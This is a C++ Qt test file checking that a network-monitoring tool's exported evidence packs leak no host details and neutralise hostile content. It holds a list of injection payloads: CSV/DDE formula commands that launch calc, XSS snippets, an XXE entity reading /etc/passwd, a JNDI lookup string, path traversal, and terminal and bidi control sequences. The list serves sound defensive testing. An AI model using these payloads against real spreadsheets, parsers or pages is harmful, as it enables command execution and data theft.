// SPDX-License-Identifier: GPL-3.0-or-later
// What must not leave with an evidence pack: anything about where we sit, and anything in it that acts by itself.
#include "app/desk/notes.h"
#include "app/evidence/csv_line.h"
#include "app/evidence/pack.h"
#include "app/history/history.h"
#include "app/history/incident_reader.h"
#include "app/history/judgement_store.h"
#include "tests/support/recorded_story.h"

#include <QDir>
#include <QNetworkInterface>
#include <QProcess>
#include <QSysInfo>
#include <QTemporaryDir>
#include <QtTest>

#include <fstream>

using namespace kpwatch;
using namespace kpwatch::test;
namespace fs = std::filesystem;

namespace {

// What this computer is and where it sits, and what the record knows of that besides.
const std::vector<std::string>& secrets() {
    static const std::vector<std::string> all = [] {
        std::vector<std::string> found{"203.0.114.77",      "203.0.114.1",       "10.20.30.40",
                                       "10.20.30.1",        "2a02:3102:7:1::99", "gw.provider.kr",
                                       "wlan0-secret-exit", "seoul-city-note",   "2001:3102:9::1"};
        for (const std::string& own :
             {QSysInfo::machineHostName().toStdString(), QDir::homePath().toStdString() + "/kpwatch"})
            if (own.size() >= 4 && own != "localhost")
                found.push_back(own);
        for (const QNetworkInterface& interface : QNetworkInterface::allInterfaces())
            if (!interface.flags().testFlag(QNetworkInterface::IsLoopBack))
                for (const QNetworkAddressEntry& entry : interface.addressEntries())
                    found.push_back(entry.ip().toString().section(u'%', 0, 0).toStdString());
        std::ifstream resolvers("/etc/resolv.conf");
        for (std::string word; resolvers >> word;)
            if (word == "nameserver" && resolvers >> word && !word.starts_with("127."))
                found.push_back(word);
        return found;
    }();
    return all;
}

// Texts that something would run, believe or be steered by (OWASP CSV and XSS lists; UTR 36).
const std::vector<std::string>& hostile() {
    static const std::vector<std::string> all{"=1+1",
                                              "=cmd|' /C calc'!A0",
                                              "+1+1",
                                              "-2+3",
                                              "@SUM(1+1)*cmd|' /C calc'!A0",
                                              "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
                                              "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
                                              "=WEBSERVICE(\"http://x/\")",
                                              "=DDE(\"cmd\";\"/C calc\";\"1\")",
                                              "\t=1+1",
                                              "\r=1+1",
                                              "\n=1+1",
                                              " =1+1",
                                              "a\n=1+1",
                                              "a\r\n=1+1,=2+2",
                                              "a;=1+1",
                                              "a,=1+1",
                                              "a\t=1+1",
                                              "\",=1+1,\"",
                                              "\";=1+1;\"",
                                              "'=1+1",
                                              "＝1+1",
                                              "＋1+1",
                                              "－1+1",
                                              "＠SUM(1)",
                                              "%0A=1+1",
                                              "<script>alert(1)</script>",
                                              "<img src=x onerror=alert(1)>",
                                              "<svg onload=alert(1)>",
                                              "</title><script>alert(1)</script>",
                                              "<b>bold</b>&lt;",
                                              "&#x3c;script&#x3e;",
                                              "<!--",
                                              "]]><x/>",
                                              "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
                                              "\x1b[31mred\x1b[0m",
                                              "\x1b]0;title\x07",
                                              "\x1b]8;;http://x\x07link\x1b]8;;\x07",
                                              "\x9b"
                                              "31m",
                                              "\xc2\x9b"
                                              "31m",
                                              "\x7f\x08\x08\x08",
                                              std::string("nul\0nul", 7),
                                              "\xe2\x80\xaegnp.exe",
                                              "\xe2\x81\xa6isolated\xe2\x81\xa9",
                                              "\xe2\x80\x8bzero\xe2\x80\x8bwidth",
                                              "\xef\xbb\xbf=1+1",
                                              "\xff\xfe\xfd",
                                              "../../../../etc/passwd",
                                              "C:\\Windows\\system32",
                                              "%s%n%x",
                                              "${jndi:ldap://x/a}",
                                              "{{7*7}}",
                                              "\xf3\xa0\x80\xa1tag"};
    return all;
}

std::string bytesOf(const fs::path& path) {
    std::ifstream file(path, std::ios::binary);
    return {std::istreambuf_iterator<char>(file), {}};
}

std::vector<std::vector<std::string>> tableOf(const std::string& csv) { // RFC 4180
    std::vector<std::vector<std::string>> rows(1, {""});
    bool quoted = false;
    for (std::size_t i = 0; i < csv.size(); ++i) {
        const char letter = csv[i];
        if (quoted && letter == '"' && i + 1 < csv.size() && csv[i + 1] == '"')
            rows.back().back() += csv[++i];
        else if (letter == '"')
            quoted = !quoted;
        else if (!quoted && letter == ',')
            rows.back().emplace_back();
        else if (!quoted && letter == '\n')
            rows.push_back({""});
        else
            rows.back().back() += letter;
    }
    return rows;
}

bool isNumber(const std::string& cell) { return cell.find_first_not_of("0123456789.") == std::string::npos; }

} // namespace

class TestPackPrivacy : public QObject {
    Q_OBJECT
    QTemporaryDir m_home;
    const fs::path m_folder = m_home.path().toStdString();
    const fs::path m_history = m_folder / "history", m_bag = m_folder / "bag";

    // Every text a check can hold says one of `words`, and every own address is a secret.
    static Story::Rows planted(const Story& story, const std::vector<std::string>& words) {
        Story::Rows rows = story.until(siegeEnd);
        std::size_t next = 0;
        const auto word = [&] { return words[next++ % words.size()]; };
        for (Observation& row : rows.observations) {
            row.source = "203.0.114.77";
            const Target& target = *story.watchlist().find(row.target);
            if (std::holds_alternative<HttpOptions>(target.probe) && row.answered()) {
                HttpDetail page{.status = 200};
                for (std::string HttpDetail::*text :
                     {&HttpDetail::location, &HttpDetail::server, &HttpDetail::lastModified, &HttpDetail::title,
                      &HttpDetail::date, &HttpDetail::via})
                    page.*text = word();
                page.tls = TlsDetail{
                    .version = word(), .cipher = word(), .faults = {word()}, .subject = word(), .issuer = word()};
                row.detail = page;
            } else if (row.failure == Failure::Timeout && std::holds_alternative<TcpOptions>(target.probe)) {
                row.detail = ConnectDetail{3, {.router = "203.0.114.1", .icmpType = 3, .icmpCode = 1}};
            } else if (std::holds_alternative<DnsOptions>(target.probe) && row.answered()) {
                row.detail = DnsDetail{.rcode = "NOERROR", .authoritative = true};
            }
        }
        rows.events.push_back({storyBegin(), Epoch{.id = "e1", .network = "ethernet", .exit = "wlan0-secret-exit"}});
        std::ranges::stable_sort(rows.events, {}, &Event::at);
        return rows;
    }

    std::string idOfOne() const {
        const HistoryReader reader(m_history);
        const auto log = incidentLog(reader, {storyWatchlist(), Settings{}, reader.lastRowAt().value()});
        return log.empty() ? std::string() : log.front().id;
    }

    PackMade packed(const std::vector<std::string>& words, const std::string& reason) {
        fs::remove_all(m_history);
        fs::remove_all(m_bag);
        const Story story = siege();
        record(planted(story, words), story.watchlist(), m_history);
        {
            const UtcTime later = storyBegin() + std::chrono::hours(50); // the days are sealed
            History history({.directory = m_history}, story.watchlist(), {}, later);
            while (history.tend(later)) {}
        }
        const std::string id = idOfOne();
        recordJudgement(
            m_history,
            {.at = storyBegin(), .hand = Hand::Exclude, .incident = id, .other = "router-177", .reason = reason});
        Notes(m_history).add({.at = storyBegin(), .incident = id, .text = "seoul-city-note"});
        return packIncident({.history = m_history, .incident = id, .output = m_bag}).value();
    }

    template <typename Visit>
    void eachFile(const Visit& visit) const {
        for (const auto& entry : fs::recursive_directory_iterator(m_bag))
            if (entry.is_regular_file())
                visit(entry.path().lexically_relative(m_bag).string(), bytesOf(entry.path()));
    }

  private Q_SLOTS:
    void nothingOfOursIsInIt() {
        std::vector<std::string> quoting;
        for (const std::string& secret : secrets())
            quoting.push_back("you are " + secret + ", hello");
        packed(quoting, "my desk " + QSysInfo::machineHostName().toStdString() + " was moved");
        int scanned = 0;
        eachFile([&](const std::string& name, const std::string& bytes) {
            ++scanned;
            for (const std::string& secret : secrets())
                // What others say is in the record word for word; only what is known to be ours can be known there.
                if (secret != "gw.provider.kr" && secret != "seoul-city-note" && secret != "wlan0-secret-exit" &&
                    !secret.starts_with("10.20.") && !secret.starts_with("2a02:3102") &&
                    !secret.starts_with("2001:3102") && secret != "203.0.114.1")
                    QVERIFY2(bytes.find(secret) == std::string::npos, (name + " holds " + secret).c_str());
        });
        QVERIFY(scanned > 20);
        const PackVerdict verdict = checkedPack(m_bag);
        QVERIFY2(verdict.intact(), verdict.intact() ? "" : verdict.faults.front().c_str());
    }

    void whatTheRecordKnowsOfUsIsNotInIt() {
        packed({"nothing to see"}, "a router of our own");
        eachFile([&](const std::string& name, const std::string& bytes) {
            for (const std::string& secret : secrets())
                QVERIFY2(bytes.find(secret) == std::string::npos, (name + " holds " + secret).c_str());
        });
    }

    void whatWasSaidByHandIsInItsTable() {
        packed({"nothing to see"}, "a router of our own");
        const std::string id = idOfOne();
        const UtcTime over = storyBegin() + std::chrono::seconds(siegeEnd);
        recordJudgement(m_history, {.at = over, .hand = Hand::FalseAlarm, .incident = id, .reason = "a test"});
        recordJudgement(
            m_history, {.at = over, .hand = Hand::Exclude, .incident = id, .other = "ns4", .reason = "its own repair"});
        fs::remove_all(m_bag);
        QVERIFY(packIncident({.history = m_history, .incident = id, .output = m_bag}));
        std::string said;
        for (const auto& row : tableOf(bytesOf(m_bag / "data" / "incident.csv")))
            said += row.front() + ":" + row.back() + " ";
        QVERIFY2(said == "target:by_hand ns1:false-alarm ns2:false-alarm ns3:false-alarm ns4:left-out : ",
                 said.c_str());
        QVERIFY(checkedPack(m_bag).intact());
    }

    void nothingInItActsByItself() {
        packed(hostile(), "because\x1b[2J =1+1 \xe2\x80\xae");
        QVERIFY(hostile().size() >= 40);
        eachFile([&](const std::string& name, const std::string& bytes) {
            QVERIFY2(name.find("..") == std::string::npos, name.c_str());
            for (const char letter : bytes)
                QVERIFY2(static_cast<unsigned char>(letter) >= 0x20 || letter == '\n' || letter == '\t', name.c_str());
            for (const char* const steering : {"\xe2\x80\xae", "\xe2\x81\xa6", "\xe2\x80\x8b", "\xc2\x9b", "\x7f"})
                QVERIFY2(bytes.find(steering) == std::string::npos, name.c_str());
        });
        int cells = 0;
        for (const char* const table : {"observations.csv", "controls.csv", "incident.csv"}) {
            const auto rows = tableOf(bytesOf(m_bag / "data" / table));
            for (std::size_t row = 0; row + 1 < rows.size(); ++row) {
                QCOMPARE(rows[row].size(), rows.front().size());
                for (const std::string& cell : rows[row]) {
                    ++cells;
                    QVERIFY2(cell.empty() || isNumber(cell) ||
                                 std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos,
                             cell.c_str());
                    QVERIFY(!cell.starts_with("＝") && !cell.starts_with("＋"));
                }
            }
        }
        QVERIFY(cells > 10'000);
        QVERIFY(checkedPack(m_bag).intact());
    }

    void noCellOfItIsActiveInLibreOffice() {
        if (qEnvironmentVariableIsEmpty("KPWATCH_LIBREOFFICE"))
            QSKIP("starts LibreOffice: set KPWATCH_LIBREOFFICE=1");
        packed(hostile(), "=1+1");
        std::string all = "text\n";
        for (const std::string& text : hostile())
            all += CsvLine().text(text).take() + '\n';
        std::ofstream(m_bag / "data/hostile.csv") << all;
        std::ofstream(m_bag / "data/active.csv") << "text\n=1+1\n"; // that the search finds one
        for (const char* const table : {"observations", "controls", "incident", "hostile", "active"}) {
            QProcess office;
            office.start(QStringLiteral("soffice"),
                         {QStringLiteral("--headless"),
                          QStringLiteral("-env:UserInstallation=file://") + m_home.filePath(QStringLiteral("office")),
                          QStringLiteral("--convert-to"), QStringLiteral("fods"), QStringLiteral("--outdir"),
                          m_home.path(),
                          QString::fromStdString((m_bag / "data" / (std::string(table) + ".csv")).string())});
            QVERIFY(office.waitForFinished(180'000));
            const std::string sheet = bytesOf(m_folder / (std::string(table) + ".fods"));
            QVERIFY2(sheet.find("<table:table-cell") != std::string::npos, table);
            QCOMPARE(sheet.find("table:formula=") == std::string::npos, std::string_view(table) != "active");
        }
    }
};

QTEST_GUILESS_MAIN(TestPackPrivacy)
#include "tst_pack_privacy.moc"
